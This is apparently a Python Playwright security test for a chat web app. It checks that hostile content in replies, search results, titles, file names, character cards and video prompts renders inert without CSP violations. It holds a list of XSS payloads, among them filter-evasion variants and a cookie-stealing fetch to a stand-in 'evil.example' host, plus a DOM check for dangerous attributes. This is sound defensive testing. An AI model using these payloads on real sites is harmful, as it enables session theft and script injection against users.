"""Hostile content everywhere a user or the platform can put text, rendered inert in a
real browser (issue 13, item 3), with no CSP violation reported (item 1).

One corpus of hostile Markdown, HTML and LaTeX goes in as a model reply (streamed, then
after a reload), as web-search titles, snippets and links (the simulator's
`search_echo`), a conversation title, a preset name, an attachment's file name,
character-card fields (an imported card: its page and its greeting) and a video
prompt. On every page the test asserts that no payload ran (a window flag, a dialog),
that no dangerous element or attribute is in the DOM, that the browser asked no other
host for anything, and that not one `securitypolicyviolation` event fired. The CSP
report endpoint's count (read as staff) does not move either, until one deliberate
violation at the end proves that reports do arrive.

The vectors come from published advisories of peer chat front-ends (docs/security.md
lists them): Markdown links and images in replies, citations and search results,
character cards, file names, titles.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import time
from urllib.parse import urlsplit

import pytest
from PIL import Image
from playwright.sync_api import Page, expect

from chat.characters import cards
from tests.browser.conftest import BASE_DIR, CHROMIUM, CHROMIUM_ARGS, sign_up
from tests.browser.test_chat_streaming import CONVERSATION_URL, last_reply

EVIL = "https://evil.example"
# One vector per line: each would set window.__pwned, open a dialog or fetch from
# EVIL if it got through. Lines stay under 512 characters (the video prompt's limit).
VECTORS = [
    "<img src=x onerror=\"window.__pwned='img'\">",
    f'<img src="{EVIL}/pixel.png" alt="tracking pixel">',
    f"![md image]({EVIL}/md.png)",
    "[js link](javascript:window.__pwned='md-js')",
    "[mixed case](JaVaScRiPt:window.__pwned='md-case')",
    "[data link](data:text/html,<script>window.__pwned='md-data'</script>)",
    "[vb link](vbscript:msgbox(1))",
    "[entity md](&#106;avascript:window.__pwned='md-entity')",
    "<a href=\"&#106;avascript:window.__pwned='entity'\">entity</a>",
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">hex entity</a>',
    '<a href="java&#09;script:alert(2)">tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==">b64</a>',
    f"<a href=\"javascript:fetch('{EVIL}/steal?c='+document.cookie)\">steal</a>",
    "<svg onload=\"window.__pwned='svg'\"><circle r=5 /></svg>",
    '<svg><a xlink:href="javascript:alert(4)"><text y=9>xlink</text></a></svg>',
    f"<style>@import url({EVIL}/s.css); body{{display:none}}</style>",
    f'<p style="background:url({EVIL}/bg.png)">styled</p>',
    f'<iframe src="{EVIL}/frame"></iframe>',
    "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>",
    f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">',
    "<script>window.__pwned='script'</script>",
    "<details open ontoggle=\"window.__pwned='toggle'\"><summary>s</summary></details>",
    f'<form action="{EVIL}/f"><button formaction="javascript:alert(5)">go</button>',
    "<input autofocus onfocus=\"window.__pwned='focus'\">",
    f'<video src="{EVIL}/v.mp4" poster="{EVIL}/p.png"></video>',
    f'<link rel="stylesheet" href="{EVIL}/l.css"><base href="{EVIL}/">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned='mxss'>\">",
    f'<img srcset="{EVIL}/s.png 1x">',
    f'<table background="{EVIL}/t.png"><tr><td>t</td></tr></table>',
    f'<a href="{EVIL}/" ping="{EVIL}/ping" target="_self" rel="opener">ping</a>',
    '<div onmouseover="window.__pwned=\'hover\'" class="toast" id="composer">x</div>',
    '<img src="data:image/svg+xml,<svg onload=alert(6)>">',
    "$\\href{javascript:window.__pwned='katex'}{click}$ $\\url{javascript:alert(7)}$",
    f"$$\\includegraphics{{{EVIL}/k.png}}$$",
    "$\\htmlStyle{color:red}{styled}$ $\\htmlData{x=y}{data}$ $\\htmlId{composer}{id}$",
    # Past a screen that looks for quoted handlers and "javascript:" (card import).
    "<img src=x onerror=window.__pwned=`unquoted`>",
    "<details open ontoggle=window.__pwned=`toggle2`><summary>t</summary></details>",
    '<a href="javascript&#58;alert(9)">colon entity</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mg'\">",
]
MARKDOWN = "\n\n".join(VECTORS)
# Whole lines, so that as search results (one per line) they are the links themselves.
SEARCH_LINKS = [
    "javascript:window.__pwned='search-link'",
    "JaVaScRiPt:window.__pwned='search-case'",
    " javascript:alert(10)",
    "data:text/html,<script>window.__pwned='search-data'</script>",
    "vbscript:msgbox(11)",
    "//evil.example/protocol-relative",
]
SEARCH = "\n\n".join([MARKDOWN, *SEARCH_LINKS])
SHORT = "<img src=x onerror=\"window.__pwned='short'\"> javascript:alert(8)"

TRAPS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(`${event.effectiveDirective} ${event.blockedURI}`);
});
"""

# Dangerous things anywhere in the page (the app's own markup included): handlers,
# script-capable URLs, srcdoc, style elements, frames and plugins, base and refresh.
DOM_CHECK = """
() => {
  const problems = [];
  const urlAttrs = ["href", "src", "xlink:href", "action", "formaction", "data",
                    "poster", "background", "srcset", "ping"];
  for (const node of document.querySelectorAll("*")) {
    for (const attr of node.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value.replace(/[\\s\\u0000-\\u001f]/g, "").toLowerCase();
      if (name.startsWith("on")) problems.push(`${node.tagName} ${name}`);
      if (name === "srcdoc") problems.push(`${node.tagName} srcdoc`);
      if (urlAttrs.includes(name) && (value.startsWith("javascript:") ||
          value.startsWith("vbscript:") || value.startsWith("data:text/html")))
        problems.push(`${node.tagName} ${name}=${value}`);
      if (urlAttrs.includes(name) && /^(https?:)?\\/\\/evil\\.example/.test(value) &&
          !(node.tagName === "A" && name === "href"))
        problems.push(`${node.tagName} ${name}=${value}`);
    }
    // The page's own scripts: same-origin files and json_script data.
    const ownScript = node.tagName === "SCRIPT" && !node.closest(".msg-body, .md") &&
      ((node.src && new URL(node.src).origin === location.origin) ||
       (!node.src && node.type === "application/json"));
    if (["SCRIPT", "STYLE", "IFRAME", "FRAME", "OBJECT", "EMBED", "BASE"]
        .includes(node.tagName) && !ownScript)
      problems.push(`element ${node.tagName}`);
    if (node.tagName === "META" && node.httpEquiv) problems.push("meta http-equiv");
    if (node.tagName === "A" && node.hasAttribute("href") &&
        new URL(node.href, location.href).origin !== location.origin &&
        !/\\bnoopener\\b/.test(node.rel))
      problems.push(`link without rel: ${node.outerHTML.slice(0, 120)}`);
  }
  for (const body of document.querySelectorAll(".msg-body, .md")) {
    for (const node of body.querySelectorAll("img, svg, video, form, input, [id]"))
      if (!node.closest(".katex, .msg-attachments, .attach-tray"))
        problems.push(`in a message: ${node.outerHTML.slice(0, 120)}`);
  }
  return problems;
}
"""


@pytest.fixture(scope="module")
def reporting_chromium(chromium):
    """A Chromium of its own, for pages whose responses the test rewrites (the
    `chromium` fixture first: it skips, or fails under CI, without one)."""
    browser = chromium.browser_type.launch(
        executable_path=CHROMIUM,
        headless=True,
        # Pages fulfilled by the test (Watch._route) count as public to Chromium's
        # Local Network Access checks, which would then block their websocket to
        # 127.0.0.1.
        args=[*CHROMIUM_ARGS, "--disable-features=LocalNetworkAccessChecks"],
    )
    yield browser
    browser.close()


class Watch:
    """What the page did that it must not: foreign requests, dialogs, violations."""

    def __init__(self, page: Page, origin: str) -> None:
        self.page = page
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        page.context.add_init_script(TRAPS)
        page.on("dialog", self._dialog)
        page.context.route("**/*", self._route)
        self.origin = origin

    def _dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _route(self, route) -> None:
        url = route.request.url
        parts = urlsplit(url)
        if parts.scheme in {"data", "blob"}:
            route.continue_()
        elif f"{parts.scheme}://{parts.netloc}" == self.origin:
            if route.request.resource_type != "document":
                route.continue_()
                return
            # Chromium sends reports by report-to when the policy names it, batched
            # (here, headless over http, not within 75 s); without it, by report-uri
            # at once. So pages come without report-to, and the count is report-uri's.
            response = route.fetch(max_redirects=0)
            headers = dict(response.headers)
            headers.pop("reporting-endpoints", None)
            policy = headers.get("content-security-policy", "")
            headers["content-security-policy"] = "; ".join(
                part for part in policy.split("; ") if not part.startswith("report-to")
            )
            route.fulfill(response=response, headers=headers)
        else:
            self.foreign.append(url)
            route.abort()

    def check(self, where: str) -> None:
        """Assert the current page is clean, after any late handler had its chance."""
        self.page.wait_for_timeout(200)
        assert self.page.evaluate("window.__pwned") is None, where
        assert self.page.evaluate("window.__violations") == [], where
        assert self.page.evaluate(DOM_CHECK) == [], where
        assert self.dialogs == [], where
        assert self.foreign == [], where


def make_staff(var_dir, username: str) -> None:
    code = (
        "from django.contrib.auth import get_user_model;"
        f"get_user_model().objects.filter(username={username!r}).update(is_staff=True)"
    )
    subprocess.run(
        [sys.executable, "manage.py", "shell", "-c", code],
        cwd=BASE_DIR,
        env={**os.environ, "GLMWEB_VAR_DIR": str(var_dir)},
        check=True,
        capture_output=True,
    )


def report_count(page: Page) -> int:
    return page.request.get("/csp-report/").json()["reports"]


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def api(page: Page, method: str, url: str, body: dict) -> dict:
    return page.evaluate(
        """async ([method, url, body]) => {
          const { request } = await import("/static/chat/api.js");
          return await request(method, url, body);
        }""",
        [method, url, body],
    )


def card_of(text: str) -> dict:
    short = text[:60]
    return {
        "spec": "chara_card_v2",
        "spec_version": "2.0",
        "data": {
            "name": short,
            "description": text,
            "personality": text,
            "scenario": text,
            "first_mes": text,
            "mes_example": text,
            "creator_notes": text,
            "tags": [short[:30]],
            "alternate_greetings": [text],
        },
    }


def accepted_by_card_import(vector: str) -> bool:
    try:
        cards.card_from_json(card_of(vector))
    except cards.CardRejectedError:
        return False
    return True


CARD_VECTORS = [v for v in VECTORS if accepted_by_card_import(v)]


def import_card(page: Page, card: dict) -> None:
    page.locator("input[name=card]").set_input_files(
        {
            "name": SHORT + ".json",
            "mimeType": "application/json",
            "buffer": json.dumps(card).encode(),
        }
    )
    page.locator("main form button[type=submit]").last.click()


def test_hostile_content_everywhere_renders_inert_with_no_csp_violation(
    reporting_chromium, live_app
):
    context = reporting_chromium.new_context(
        locale="en-US",
        base_url=live_app.base_url,
        viewport={"width": 1280, "height": 900},
    )
    context.set_default_timeout(15_000)
    page = context.new_page()
    watch = Watch(page, live_app.base_url)
    username = sign_up(page)
    make_staff(live_app.var_dir, username)
    reports_before = report_count(page)

    # A reply of every vector, streamed, with every vector as a search result too.
    page.goto("/")
    page.locator("#model-picker").select_option("glm-4.6")
    page.locator("#opt-web-search").check()
    box = page.locator("#composer-input")
    box.fill(
        SEARCH + "\n\nSee [ref_1][ref_3][ref_14] [[sim:echo,search_echo,rate=400]]"
    )
    box.press("Enter")
    page.wait_for_url(CONVERSATION_URL)
    expect(last_reply(page)).to_have_attribute("data-status", "streaming")
    while last_reply(page).get_attribute("data-status") == "streaming":
        watch.check("while streaming")
    expect(last_reply(page).locator(".msg-body")).to_contain_text("styled")
    sources = last_reply(page).locator("[id^=source-]")
    expect(sources).to_have_count(len(VECTORS) + len(SEARCH_LINKS) + 1)
    assert last_reply(page).locator("sup.cite").count() == 3
    # Allowed markup still renders; a disallowed tag shows as the text it was.
    body = last_reply(page).locator(".msg-body")
    expect(body.locator("details > summary")).to_have_count(1)  # backticks: text
    expect(body.locator("table td")).to_have_text("t")
    expect(body).to_contain_text("<script>window.__pwned='script'</script>")
    watch.check("after the reply")
    conversation_id = page.url.rstrip("/").rsplit("/", 1)[1]

    # A title, a preset name and an attachment's file name, shown after a reload.
    api(page, "PATCH", f"/api/conversations/{conversation_id}/", {"title": SHORT})
    api(page, "POST", "/api/presets/", {"name": SHORT[:80], "system_prompt": "x"})
    page.reload()
    watch.check("after a reload")
    expect(page.locator("#preset-picker option", has_text="onerror")).to_have_count(1)
    page.locator("#model-picker").select_option("glm-4v-plus")
    with page.expect_file_chooser() as chooser:
        page.click("#attach-button")
    chooser.value.set_files(
        {"name": SHORT + ".png", "mimeType": "image/png", "buffer": png()}
    )
    item = page.locator('#attach-tray .attach-item[data-status="ready"]')
    expect(item).to_contain_text("onerror")
    watch.check("file name in the composer")
    box.fill(SHORT + " [[sim:echo]]")
    box.press("Enter")
    expect(page.locator("li.msg-assistant")).to_have_count(2)
    expect(last_reply(page)).not_to_have_attribute("data-status", "streaming")
    page.reload()
    expect(page.locator("#sidebar")).to_contain_text("onerror")
    watch.check("title, preset and file name")

    # A character card: one with every vector is refused outright (its importer
    # screens script and active HTML); one with every vector the screen lets through
    # is imported, and its fields are shown on its page and as its greeting.
    page.goto("/characters/import/")
    import_card(page, card_of(MARKDOWN))
    expect(page.get_by_role("alert")).to_contain_text("refused for safety")
    watch.check("card refused")
    assert len(CARD_VECTORS) >= 15
    import_card(page, card_of("\n\n".join(CARD_VECTORS)))
    expect(page.locator("form.start-chat")).to_be_visible()
    watch.check("character page")
    page.locator("form.start-chat button[type=submit]").click()
    page.wait_for_url(CONVERSATION_URL)
    expect(last_reply(page).locator(".msg-body")).to_contain_text("styled")
    watch.check("character greeting")

    # A video prompt, on the queue and once the job is done.
    page.goto("/videos/")
    page.locator("textarea[name=prompt]").fill(SHORT + " [[sim:ready_after=0]]")
    page.locator("form[data-video-form] button[type=submit]").click()
    expect(page.locator(".job").first).to_contain_text("onerror")
    watch.check("video queued")
    # Redrawn by the page's status poll (jobs.js) once the job moves on.
    expect(page.locator(".job[data-status=queued]")).to_have_count(0, timeout=30_000)
    watch.check("video redrawn")

    # Nothing reached the report endpoint; one real violation does, so it would have.
    assert report_count(page) == reports_before
    page.goto("/")
    page.evaluate("document.body.setAttribute('style', 'outline: 1px solid red')")
    assert len(page.evaluate("window.__violations")) == 1
    deadline = time.monotonic() + 20
    while report_count(page) == reports_before and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    assert report_count(page) == reports_before + 1, live_app.output[-20:]
    context.close()
